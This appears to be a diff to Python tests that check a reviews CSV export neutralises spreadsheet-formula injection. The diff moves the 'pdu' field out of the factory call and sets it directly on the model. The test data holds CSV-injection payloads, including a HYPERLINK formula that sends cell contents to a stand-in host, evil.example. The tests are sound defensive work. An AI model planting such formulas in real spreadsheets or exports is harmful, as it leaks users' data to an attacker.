@@ -47,7 +47,9 @@ def test_the_export_is_audited(client, as_leadership):
     ['=HYPERLINK("http://x","y")', "+44 20 7946 0000", "-2+3", "@SUM(A1:A2)", "\tTab", "\rCR"],
 )
 def test_cells_a_spreadsheet_would_run_are_neutralised(client, login_as, make_review, text):
-    make_review(offence_charged=text, pdu=text)
+    review = make_review(offence_charged=text)
+    review.pdu = text  # not on the list (issue 19): as typed before it, not yet mapped
+    db.session.commit()
     login_as("leadership")
     rows = read_csv(client.get("/reviews.csv"))
     header = rows[0]
@@ -62,7 +64,9 @@ def test_a_spreadsheet_splitting_on_semicolons_sees_no_formula_either(
     from tests.services.test_csv_cells import formula_cells
 
     make_review(offence_charged='Assault;=HYPERLINK("http://evil.example/?"&A1,"x")')
-    make_review(pdu="Camden, +SUM(A1)", offence_charged="Theft\n-2+3")
+    review = make_review(offence_charged="Theft\n-2+3")
+    review.pdu = "Camden, +SUM(A1)"  # as typed before the list of PDUs (issue 19)
+    db.session.commit()
     login_as("leadership")
 
     response = client.get("/reviews.csv")
